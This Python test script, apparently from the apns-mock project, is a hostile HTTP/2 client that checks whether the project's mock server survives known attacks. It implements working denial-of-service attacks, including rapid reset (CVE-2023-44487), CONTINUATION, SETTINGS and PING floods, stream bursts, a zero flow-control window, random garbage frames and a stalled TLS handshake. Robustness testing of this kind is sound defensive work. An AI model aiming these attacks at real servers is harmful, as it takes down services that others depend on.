"""A hostile HTTP/2 client for apns-mock's robustness tests (issue 22).

usage: hostile_h2.py HOST PORT CAFILE ATTACK [AUTHORIZATION]

Runs one attack over TLS (ALPN h2) and prints one JSON line: what the server did about it
(`goaway`: its error code, last stream id and debug data, or null; `closed`: the server closed
the connection; `answers`: responses seen; `resets`: RST_STREAM error codes seen, counted), and
how long it took. The attacks are the ones HTTP/2
servers were taken down by: rapid reset (CVE-2023-44487), CONTINUATION floods, SETTINGS and PING
floods, a burst of streams over the limit, a 2 MiB body, a zero flow-control window, random bytes
after the preface, a TLS handshake that never finishes.
"""

import json
import random
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack

HOST, PORT, CAFILE, ATTACK = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
AUTHORIZATION = sys.argv[5] if len(sys.argv) > 5 else ""
TOKEN = "ab" * 32


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect():
    context = ssl.create_default_context(cafile=CAFILE)
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((HOST, PORT), timeout=10)
    tls = context.wrap_socket(raw, server_hostname="localhost")
    return tls


def request_headers(stream_path=None):
    headers = [
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", stream_path or "/3/device/" + TOKEN),
        ("apns-topic", "com.example.app"),
    ]
    if AUTHORIZATION:
        headers.append(("authorization", AUTHORIZATION))
    return headers


class Received:
    """What the server sent, read while the attack goes on (so a GOAWAY sent just before the
    server closes is not lost to the reset a closed socket answers further writes with), parsed
    as raw frames: the attacks use stream ids the client library knows nothing of."""

    def __init__(self):
        self.bytes = bytearray()
        self.closed = False

    def poll(self, tls, timeout=0.0):
        """Reads whatever has arrived (waiting at most `timeout` seconds for the first byte)."""
        while not self.closed:
            if not tls.pending():
                ready, _, _ = select.select([tls], [], [], timeout)
                if not ready:
                    return
            try:
                data = tls.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
                return
            except (ConnectionError, ssl.SSLError, OSError):
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.bytes += data
            timeout = 0.0

    def frames(self):
        offset = 0
        while offset + 9 <= len(self.bytes):
            length = int.from_bytes(self.bytes[offset : offset + 3], "big")
            kind, flags = self.bytes[offset + 3], self.bytes[offset + 4]
            stream = int.from_bytes(self.bytes[offset + 5 : offset + 9], "big") & 0x7FFFFFFF
            payload = bytes(self.bytes[offset + 9 : offset + 9 + length])
            if len(payload) < length:
                return
            yield kind, flags, stream, payload
            offset += 9 + length

    def summary(self):
        """(goaway, answers, resets): the first GOAWAY's code, last stream id and debug data;
        HEADERS frames (responses) received; RST_STREAM error codes received, counted."""
        goaway, answers, resets = None, 0, {}
        for kind, _, stream, payload in self.frames():
            if kind == 0x7 and goaway is None and len(payload) >= 8:
                goaway = {
                    "code": int.from_bytes(payload[4:8], "big"),
                    "last": int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF,
                    "debug": payload[8:].decode("utf-8", "replace"),
                }
            elif kind == 0x1 and stream:
                answers += 1
            elif kind == 0x3 and len(payload) == 4:
                code = str(int.from_bytes(payload, "big"))
                resets[code] = resets.get(code, 0) + 1
        return goaway, answers, resets


RECEIVED = Received()


def read_until_closed(tls, seconds, answered=False):
    """Reads what the server sends for up to `seconds`, or until it closes (or, with
    `answered`, until a response has come)."""
    tls.settimeout(0.5)
    deadline = time.time() + seconds
    while time.time() < deadline and not RECEIVED.closed:
        if answered and RECEIVED.summary()[1] > 0:
            return
        RECEIVED.poll(tls, 0.2)


# Attacks the server answers by closing the connection, and the one it answers with a 413:
# reading stops there, so their deadline can be long enough for a server slowed down by a
# sanitizer on a busy machine; the others read for a fixed few seconds.
CLOSING_ATTACKS = ("rapid-reset", "continuation-flood", "settings-flood", "ping-flood", "garbage")


def start(settings=None):
    RECEIVED.__init__()
    tls = connect()
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    connection = h2.connection.H2Connection(config=config)
    connection.initiate_connection()
    if settings:
        connection.update_settings(settings)
    tls.sendall(connection.data_to_send())
    return tls, connection


def send_quietly(tls, data):
    """Sends `data`, reading what has arrived first; `False` once the server has closed."""
    RECEIVED.poll(tls)
    if RECEIVED.closed:
        return False
    try:
        tls.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError, OSError):
        RECEIVED.poll(tls)
        return False


def main():
    began = time.time()
    result = {"attack": ATTACK}
    encoder = hpack.Encoder()
    if ATTACK == "slow-handshake":
        # A TCP connection that sends half a ClientHello and waits: the server must close it.
        raw = socket.create_connection((HOST, PORT), timeout=10)
        raw.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        raw.settimeout(30)
        try:
            data = raw.recv(1)
            result["closed"] = data == b""
        except socket.timeout:  # before OSError, of which it is a kind
            result["closed"] = False
        except (ConnectionError, OSError):
            result["closed"] = True
        result["seconds"] = round(time.time() - began, 3)
        print(json.dumps(result))
        return
    tls, connection = start()
    sent = 0
    if ATTACK == "rapid-reset":
        stream = 1
        for _ in range(5000):
            block = encoder.encode(request_headers())
            data = frame(0x1, 0x4, stream, block) + frame(0x3, 0, stream, struct.pack(">I", 8))
            if not send_quietly(tls, data):
                break
            sent += 1
            stream += 2
    elif ATTACK == "continuation-flood":
        block = encoder.encode(request_headers())
        if send_quietly(tls, frame(0x1, 0, 1, block)):
            junk = encoder.encode([("x-flood", "y" * 200)])
            for _ in range(20000):
                if not send_quietly(tls, frame(0x9, 0, 1, junk)):
                    break
                sent += 1
    elif ATTACK in ("settings-flood", "ping-flood"):
        # 20,000 frames the server must acknowledge, sent without reading the acknowledgements.
        if ATTACK == "settings-flood":
            frames = [frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100)) for _ in range(20000)]
        else:
            frames = [frame(0x6, 0, 0, struct.pack(">Q", i)) for i in range(20000)]
        for start_index in range(0, len(frames), 1000):
            try:
                tls.sendall(b"".join(frames[start_index : start_index + 1000]))
            except (ConnectionError, ssl.SSLError, OSError):
                break
            sent += 1000
    elif ATTACK == "stream-burst":
        stream = 1
        for _ in range(10000):
            block = encoder.encode(request_headers())
            if not send_quietly(tls, frame(0x1, 0x4, stream, block)):
                break
            sent += 1
            stream += 2
    elif ATTACK == "big-body":
        connection.send_headers(1, request_headers())
        tls.sendall(connection.data_to_send())
        chunk = b"{" + b"x" * 16382
        for _ in range(128):  # 2 MiB, as fast as the window lets it go
            if not send_quietly(tls, frame(0x0, 0, 1, chunk)):
                break
            sent += 1
    elif ATTACK == "zero-window":
        # The client's window is 0: the server can send no DATA (error bodies) and must not
        # hold unbounded memory for the requests it cannot answer.
        tls.close()
        tls, connection = start({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        stream = 1
        for _ in range(2000):
            block = encoder.encode(request_headers("/3/device/nothex"))
            if not send_quietly(tls, frame(0x1, 0x5, stream, block)):
                break
            sent += 1
            stream += 2
    elif ATTACK == "garbage":
        # Seeded (see the end of the file), so every run sends the same bytes: the first nine
        # are a frame header whose length (3,716,326) is over the limit.
        send_quietly(tls, random.randbytes(4096))
        sent = 1
    else:
        print(json.dumps({"error": "unknown attack " + ATTACK}))
        sys.exit(2)
    if ATTACK in CLOSING_ATTACKS or ATTACK == "big-body":
        read_until_closed(tls, 30, answered=ATTACK == "big-body")
    else:
        read_until_closed(tls, 3)
    goaway, answers, resets = RECEIVED.summary()
    result.update({"sent": sent, "goaway": goaway, "closed": RECEIVED.closed, "answers": answers, "resets": resets})
    result["seconds"] = round(time.time() - began, 3)
    try:
        tls.close()
    except OSError:
        pass
    print(json.dumps(result))


if __name__ == "__main__":
    random.seed(7)
    main()
